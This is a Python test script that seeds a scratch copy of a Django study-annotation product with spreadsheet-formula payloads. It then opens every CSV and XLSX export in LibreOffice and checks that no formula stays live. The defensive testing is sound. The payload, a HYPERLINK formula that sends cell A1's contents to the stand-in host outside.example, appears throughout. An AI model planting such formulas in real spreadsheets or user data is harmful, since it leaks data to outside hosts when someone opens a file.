"""Open every CSV and XLSX that the product writes in LibreOffice and count the formulas that it evaluates.

    .venv/bin/python bench/spreadsheets.py        (needs LibreOffice: apt-get install libreoffice-calc)

Every text of a small study is a formula: names, keys, criteria, tags, notes, answers. Every endpoint and every command
that gives a table is called. LibreOffice is told to evaluate formulas in CSV, which it does not do by itself; a file
from none of the product's writers proves that it does. JSON must hold the texts unchanged.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.scratch import scratch_product, show

FORMULA = '=HYPERLINK("http://outside.example/?"&A1;"open")'
# separator, quote, UTF-8, from line 1, no column formats, language, nothing quoted is text, detect numbers,
# contents, no export of formulas, keep blanks, first sheet, evaluate formulas
EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
ALIVE = re.compile(rb'table:formula="')
# Texts that programs compare, and that stay as they are: names of states and kinds, addresses, digests, parts of URLs.
NOT_WORDS = re.compile(
    r"(^|_)(id|slug|email|username|password|status|kind|digest|sha256|hash|language|stage|outcome|setting|track|purpose|"
    r"scope|code|version|role|token|key_hash|url|file|method|rule|state|mode|provenance|country|timezone|ending|part)$"
)
OWN_APPS = ("accounts", "rubrics", "annotation", "scoring", "agreement", "releases")
TABLES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def main() -> None:
    """Make the study, collect the files, open them, and print what was found."""
    office = shutil.which("soffice") or sys.exit("LibreOffice is not installed: apt-get install libreoffice-calc")
    os.environ["DEBUG"] = "1"  # static files under their own names
    with scratch_product() as home:
        folder = home / "exports"
        folder.mkdir()
        # A control: LibreOffice does run formulas of a CSV that was not made inert.
        (folder / "control.csv").write_text(f'name\n"{FORMULA.replace(chr(34), chr(34) * 2)}"\n')
        collect(folder)
        rows = list(opened(office, folder))
    control = next(row for row in rows if row[0] == "control.csv")
    others = [row for row in rows if row is not control]
    show("Exports opened in LibreOffice", ("file", "payloads", "live formulas"), others)
    print(
        f"{len(others)} files with {sum(row[1] for row in others):,} payloads: {sum(row[2] for row in others)} live "
        f"formulas; the control has {control[2]}"
    )


def collect(folder: Path) -> None:
    """Write every table of a poisoned study into ``folder``."""
    import factory.random
    from django.conf import settings
    from django.test import Client
    from django.urls import reverse

    settings.ALLOWED_HOSTS = ["*"]
    settings.SECURE_SSL_REDIRECT = False
    settings.CELERY_TASK_ALWAYS_EAGER = True
    factory.random.reseed_random(1)
    from tests.access.endpoints import ENDPOINTS
    from tests.access.world import build_world

    world = build_world()
    a_draft(world)
    poison()
    rater = again(world)
    changed_json = []
    clients: dict[str, Client] = {}
    for name, endpoint in ENDPOINTS.items():
        if endpoint.framework or endpoint.writes_only:
            continue
        role = next(
            (role for role in ("admin", "researcher", "author", *sorted(endpoint.roles)) if role in endpoint.roles), ""
        )
        user = world.users.get(role)
        if user is None:
            continue
        if role not in clients:
            clients[role] = Client(raise_request_exception=False)
            user.refresh_from_db()
            clients[role].force_login(user)
        arguments = endpoint.arguments(world) if endpoint.arguments else {}
        endings = [{place: "xlsx"} for place, value in arguments.items() if value == "csv"]
        for other in ({}, *endings):
            url = reverse(name, kwargs={**arguments, **other})
            answer = clients[role].get(url, {"rater": rater} if "decisions-csv" in name else {})
            kind = answer.headers.get("Content-Type", "").partition(";")[0]
            if answer.status_code != 200:
                print(f"{name}: {answer.status_code}", file=sys.stderr)
                continue
            data = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[arg-type]
            if kind in TABLES:
                (folder / f"{name.replace(':', '_')}.{'csv' if kind == 'text/csv' else 'xlsx'}").write_bytes(data)
            elif kind == "application/zip":
                unpack(data, folder, name.replace(":", "_"))
            elif "json" in kind and b"'=HYPERLINK" in data:
                changed_json.append(name)
    commands(folder, world, rater)
    print(f"JSON answers in which a text was changed: {changed_json or 'none'}")


def a_draft(world: Any) -> None:
    """Save a draft made of formulas: its items are inside JSON, not in columns of their own."""
    from django.utils import timezone

    from rubrics.editor.draft_content import DraftItem
    from rubrics.models import RubricDraft
    from rubrics.services.drafts import save_draft

    item = DraftItem(
        "f", FORMULA, 5, (FORMULA, "x"), source=FORMULA, element=FORMULA, expectation=FORMULA, bank=FORMULA
    )
    version = RubricDraft.objects.get(rubric=world.draft).version
    author = world.users["author"]
    save_draft(rubric=world.draft, items=[item], version=version, client_id=None, by=author, at=timezone.now())


def poison() -> None:
    """Replace every text that a person or a file may have written by a formula, with triggers disabled."""
    from django.apps import apps
    from django.contrib.postgres.fields import ArrayField
    from django.db import connection, models

    with connection.cursor() as cursor:
        cursor.execute("SET session_replication_role = replica")
        for model in (model for label in OWN_APPS for model in apps.get_app_config(label).get_models()):
            if not model._meta.managed or "Event" in model.__name__:
                continue
            changes = []
            for field in model._meta.local_fields:
                if NOT_WORDS.search(field.name) or field.choices or field.primary_key:
                    continue
                if isinstance(field, models.TextField | models.CharField) and (field.max_length or 999) >= 90:
                    changes.append(f'"{field.column}" = \'{FORMULA}&\' || "{model._meta.pk.column}"')
                elif isinstance(field, ArrayField) and field.name in ("tags", "label_tags"):
                    changes.append(f"\"{field.column}\" = ARRAY['{FORMULA}', 'axis:{FORMULA}']")
            if changes:
                cursor.execute(f'UPDATE "{model._meta.db_table}" SET {", ".join(changes)}')
        cursor.execute("SET session_replication_role = DEFAULT")


def again(world: Any) -> str:
    """Compute the reports again, since the stored ones hold the earlier names; returns the first rater's name."""
    from django.utils import timezone

    from agreement import services
    from annotation.models import ExpertGroup
    from scoring.models import Judge

    group = ExpertGroup.objects.get(pk=world.groups["A"].pk)
    judge = Judge.objects.get(pk=world.judge.pk)
    parameters = {**world.report.parameters, "rater_a": f"group:{group.name}@first", "rater_b": judge.name}
    for attribute, kind in (("report", "agreement"), ("items", "items")):
        report = services.create_report(
            benchmark=world.benchmark, kind=kind, at=timezone.now(), by=world.users["admin"], parameters=parameters
        )
        services.run(report_id=report.pk, clock=timezone.now)
        report.refresh_from_db()
        print(f"{kind}: {report.status}", file=sys.stderr)
        setattr(world, attribute, report)
    return str(parameters["rater_a"])


def commands(folder: Path, world: Any, rater: str) -> None:
    """Write what the commands export."""
    from django.core.management import call_command

    judge = world.judge.__class__.objects.get(pk=world.judge.pk).name
    slug = ["--benchmark", world.benchmark.slug]
    for name, arguments in {
        "agreement": ["--rater", rater, "--rater", judge, "--out", str(folder / "agreement")],
        "scores": ["--rater", rater, "--k", "1", "--out", str(folder / "scores")],
        "export_decisions": ["--rater", rater, "--out", str(folder / "decisions.csv")],
    }.items():
        try:
            call_command(name, *slug, *arguments, stdout=io.StringIO(), stderr=io.StringIO())
        except Exception as error:  # a command that fails is reported, the others still count
            print(f"{name}: {error}", file=sys.stderr)
    for path in list(folder.glob("*/*.csv")):
        path.rename(folder / f"{path.parent.name}_{path.name}")


def unpack(data: bytes, folder: Path, name: str) -> None:
    """Extract the tables of an archive that the product wrote."""
    if not zipfile.is_zipfile(io.BytesIO(data)):
        print(f"{name}: no archive", file=sys.stderr)
        return
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.endswith((".csv", ".xlsx")):
                (folder / f"{name}_{member.replace('/', '_')}").write_bytes(archive.read(member))


def opened(office: str, folder: Path) -> Iterator[tuple[str, int, int]]:
    """(file, payloads in it, formulas that LibreOffice found in it) for each."""
    target, profile = folder / "opened", folder / "profile"
    base = [
        office,
        f"-env:UserInstallation=file://{profile}",
        "--headless",
        "--convert-to",
        "fods",
        "--outdir",
        str(target),
    ]
    for ending, options in (("csv", [f"--infilter={EVALUATING}"]), ("xlsx", [])):
        files = sorted(folder.glob(f"*.{ending}"))
        if files:
            subprocess.run(
                [*base, *options, *map(str, files)], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
        for path in files:
            data = path.read_bytes()
            if ending == "xlsx":
                with zipfile.ZipFile(path) as archive:
                    data = b"".join(archive.read(name) for name in archive.namelist())
            content = (target / f"{path.stem}.fods").read_bytes()
            yield path.name, data.count(b"HYPERLINK("), len(ALIVE.findall(content))


if __name__ == "__main__":
    main()
